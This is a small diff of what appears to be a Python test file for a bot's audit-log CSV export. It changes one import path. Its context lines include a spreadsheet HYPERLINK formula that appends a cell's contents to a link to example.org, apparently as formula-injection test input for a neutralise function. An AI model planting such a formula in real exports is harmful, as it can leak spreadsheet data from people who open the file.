@@ -6,7 +6,7 @@ import io
 from datetime import UTC, datetime
 
 from bot.models import AuditEvent
-from bot.services import audit_export
+from bot.services.audit import export as audit_export
 from bot.services.csv_export import neutralise
 
 LOOKUP = '=HYPERLINK("http://example.org/?"&A1,"klik")'
